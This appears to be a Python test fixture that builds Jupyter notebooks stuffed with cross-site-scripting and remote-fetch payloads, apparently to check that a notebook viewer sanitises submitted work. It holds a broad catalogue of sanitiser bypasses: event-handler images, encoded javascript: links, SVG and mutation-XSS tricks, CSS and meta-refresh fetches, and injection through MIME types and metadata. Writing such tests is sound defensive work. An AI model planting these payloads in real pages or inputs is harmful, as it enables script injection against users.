"""What a submission may write to run something, or fetch something, where its work is looked at.

Every payload calls ``RUN`` or fetches from ``AWAY`` if it works.
"""

from __future__ import annotations

from base64 import b64encode
from typing import Any

RUN = "globalThis.ran=1"
AWAY = "http://stranger.invalid"

_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'
_LINK = "<a id='click' href='{}'>go</a>"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT >",
    "script of a stranger": f"<script src={AWAY}/x.js></script>",
    "broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "module": f"<script type=module>import '{AWAY}/m.js'</script>",
    "image error": f"<img src=x onerror={RUN}>",
    "image error in slashes": f"<img/src=x/onerror={RUN}>",
    "image of a stranger": f"<img src='{AWAY}/seen.png'>",
    "image set": f"<img srcset='{AWAY}/seen.png 1x'>",
    "picture": f"<picture><source srcset='{AWAY}/a.png'><img src=''></picture>",
    "svg onload": f"<svg onload={RUN}></svg>",
    "svg script": _SVG,
    "svg foreign": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg set": f"<svg><a id=click><set attributeName=href to='javascript:{RUN}'/>x</a></svg>",
    "svg use": f"<svg><use href='{AWAY}/a.svg#x'/></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "template": f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "frame with text": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame of a stranger": f"<iframe src='{AWAY}/'></iframe>",
    "frame that runs": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "object": f"<object data='{AWAY}/o'></object><embed src='{AWAY}/e'>",
    "link that runs": _LINK.format(f"javascript:{RUN}"),
    "link in entities": _LINK.format(f"&#106;ava&#115;cript&colon;{RUN}"),
    "link with a tab": _LINK.format(f"java&Tab;script:{RUN}"),
    "link to data": _LINK.format(f"data:text/html,<script>{RUN}</script>"),
    "area": f"<map name=m><area id=click href='javascript:{RUN}' shape=default></map>",
    "form": f"<form action='javascript:{RUN}'><button id=click>x</button></form>",
    "autofocus": f"<input autofocus onfocus={RUN}>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "video": f"<video src='{AWAY}/v.webm' poster='{AWAY}/p.png' autoplay onerror={RUN}></video>",
    "audio": f"<audio src=x onerror={RUN} autoplay></audio>",
    "body": f"</div></body></html><body onload={RUN}>",
    "style import": f"<style>@import url({AWAY}/s.css);</style>",
    "style picture": f"<div style='background:url({AWAY}/b.png)'>x</div>",
    "style cursor": f"<p style='cursor:url({AWAY}/c.cur),auto'>x</p>",
    "stylesheet": f"<link rel=stylesheet href='{AWAY}/s.css'><link rel=prefetch href='{AWAY}/p'>",
    "base": f"<base href='{AWAY}/'><img src=relative.png>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "attribute": f"<a title='\"><img src=x onerror={RUN}>'>x</a>",
    "end of text": f"</textarea></title></style></script><script>{RUN}</script>",
}
MARKDOWN = {
    "link that runs": f"[go](javascript:{RUN})",
    "link in entities": f"[go](&#x6A;avascript&colon;{RUN})",
    "link with an escape": f"[go](javascript\\:{RUN})",
    "reference that runs": f"[go][1]\n\n[1]: javascript:{RUN}",
    "automatic link": f"<javascript:{RUN}>",
    "picture of a stranger": f"![seen]({AWAY}/seen.png)",
    "picture in a reference": f"![seen][1]\n\n[1]: {AWAY}/seen.png",
    "title": f"""[go](https://example.org '"><img src=x onerror={RUN}>')""",
    "fence": f'```"><img src=x onerror={RUN}>\nx\n```',
    "mermaid": f"```mermaid\n</pre><img src=x onerror={RUN}>\n```",
    "formula": f"$x</span><img src=x onerror={RUN}>$ $$<script>{RUN}</script>$$",
    "environment": f"\\begin{{align}}<img src=x onerror={RUN}>\\end{{align}}",
    "formula that links": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "table": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "empty lines": f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    "missing picture": "![x](attachment:missing.png)",
}
FORMS: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": RUN},
    "javascript as text": {"text/javascript": RUN},
    "drawing": {"image/svg+xml": _SVG},
    "drawing on": {"image/svg+xml": f'<svg width="1"><image href="x" onerror="{RUN}"/></svg>'},
    "size of a drawing": {"image/svg+xml": f'<svg width="1" onload="{RUN}" height="2"></svg>'},
    "latex": {"text/latex": f"<img src=x onerror={RUN}>"},
    "picture": {"image/png": f'"><img src=x onerror={RUN}>'},
    "photograph": {"image/jpeg": f'" onerror={RUN} x="'},
    "document": {"application/pdf": b64encode(b"%PDF").decode()},
    "unknown": {"text/x-page": f"<script>{RUN}</script>"},
    "list of lines": {"text/html": ["<scr", f"ipt>{RUN}</scr", "ipt>"]},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}"},
        "text/plain": "IntSlider(value=3)",
    },
}
METADATA: dict[str, dict[str, Any]] = {
    "size": {"image/png": {"width": f"1 onload={RUN}", "height": f'"><script>{RUN}</script>'}},
    "isolated": {"text/html": {"isolated": True}},
    "file": {"filenames": {"image/png": f"{AWAY}/seen.png"}},
    "words": {"image/png": {"alt": f'"><img src=x onerror={RUN}>'}},
}
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)


def code(text: str, outputs: list[Any], **metadata: Any) -> dict[str, Any]:
    cell = {"cell_type": "code", "source": text, "metadata": metadata, "outputs": outputs}
    return cell | {"execution_count": 1}


def markdown(text: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": text, "metadata": {}, **more}


def raw(text: str, **metadata: Any) -> dict[str, Any]:
    return {"cell_type": "raw", "source": text, "metadata": metadata}


def shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    """A cell that shows one output."""
    output = {"output_type": "display_data", "data": data, "metadata": metadata or {}}
    return code("1", [output])


def everywhere(text: str) -> list[Any]:
    """Cells with ``text`` in each place that a page shows."""
    attached = {"a.png": {f"image/png{text}": PIXEL, "image/png": f'{PIXEL}">{text}'}}
    stream = {"output_type": "stream", "name": "stdout", "text": text}
    error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}
    return [
        markdown(text),
        markdown(f"![{text}](attachment:a.png)", attachments=attached),
        raw(text),
        raw(text, raw_mimetype="text/html"),
        code(text, [stream, error], tags=[text], alt=text),
        *(shown({kind: text}) for kind in ("text/html", "text/markdown", "text/latex")),
        shown({"text/plain": text}),
    ]


def notebook(cells: list[Any]) -> dict[str, Any]:
    """A notebook with ``cells``, and names that are no better."""
    bad = f'"><img src=x onerror={RUN}></title><script>{RUN}</script>'
    state = {"m": {"model_name": bad, "model_module": f"{AWAY}/widget", "state": {}}}
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2}}
    about = {
        "title": bad,
        "authors": [{"name": bad}],
        "widgets": widgets,
        "language_info": {"name": "python", "pygments_lexer": bad},
        "kernelspec": {"name": "python3", "display_name": bad, "language": "python"},
    }
    return {"cells": cells, "metadata": about, "nbformat": 4, "nbformat_minor": 4}


def corpus() -> dict[str, dict[str, Any]]:
    """Notebooks, by what each tries."""
    found = {f"html: {name}": everywhere(text) for name, text in HTML.items()}
    found |= {f"markdown: {name}": everywhere(text) for name, text in MARKDOWN.items()}
    found |= {f"form: {name}": [shown(data)] for name, data in FORMS.items()}
    both = {"image/png": PIXEL}, {"text/html": "<b>x</b>"}
    found |= {
        f"metadata: {name}": [shown(data, about) for data in both]
        for name, about in METADATA.items()
    }
    return {name: notebook(cells) for name, cells in found.items()}
